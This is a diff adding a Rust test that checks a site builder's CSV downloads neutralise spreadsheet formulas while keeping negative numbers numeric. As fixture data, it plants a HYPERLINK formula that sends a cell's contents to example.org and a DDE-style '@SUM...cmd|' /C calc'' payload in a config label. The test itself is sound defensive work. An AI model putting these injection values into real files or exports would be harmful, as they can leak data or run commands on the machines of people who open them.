@@ -312,6 +312,49 @@ fn small_counts_in_charts_never_reach_the_built_site() {
 }
 
 #[test]
+fn csv_downloads_neutralise_formulas_and_keep_numbers() {
+    // A group id from the data file and a label from library.yaml that a spreadsheet
+    // would run as formulas.
+    let groups = "group,events,population\nwhite-british,120,9000\nblack-african,6,4217\nasian-pakistani,23,1532\nblack-caribbean,19,861\n\"=HYPERLINK(\"\"https://example.org/?\"\"&A1,\"\"Open\"\")\",40,8000\n";
+    let config = fs::read_to_string(fixture().join("content/library.yaml")).expect("config");
+    let config = config.replace(
+        "asian-pakistani: Asian or Asian British - Pakistani",
+        "asian-pakistani: \"@SUM(1+1)*cmd|' /C calc'!A0\"",
+    );
+    let files = build_with(
+        "charts-formulas",
+        &[("data/by-ethnicity.csv", groups), ("library.yaml", &config)],
+    );
+    let text = std::str::from_utf8(&files["evaluations/e/by-ethnicity.csv"]).expect("UTF-8");
+    let (_, rows) = csv_rows(text);
+    let row = |label_start: &str| {
+        rows.iter()
+            .find(|r| r[1].starts_with(label_start))
+            .unwrap_or_else(|| panic!("a row labelled {label_start}: {text}"))
+    };
+    let link = row("'=HYPERLINK(");
+    assert_eq!(
+        link[0],
+        "'=HYPERLINK(\"https://example.org/?\"&A1,\"Open\")"
+    );
+    // Its rate, 5 per 1000, is below the reference's 13.3: a negative difference, which
+    // is a number and stays one.
+    assert_eq!(link[8], "-8.3333");
+    assert_eq!(row("'@SUM(")[0], "asian-pakistani");
+    // No text cell of any download begins as a formula would.
+    for (path, bytes) in files.iter().filter(|(p, _)| p.ends_with(".csv")) {
+        let (header, rows) = csv_rows(std::str::from_utf8(bytes).expect("UTF-8"));
+        for cell in rows.iter().flatten().chain(&header) {
+            let formula = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
+            assert!(
+                !formula || cell.parse::<f64>().is_ok(),
+                "{path}: {cell:?} would run as a formula"
+            );
+        }
+    }
+}
+
+#[test]
 fn a_linked_data_file_with_a_small_count_fails_the_check() {
     let root = scratch("charts-linked-small");
     copy_tree(&fixture().join("content"), &root.join("content"));
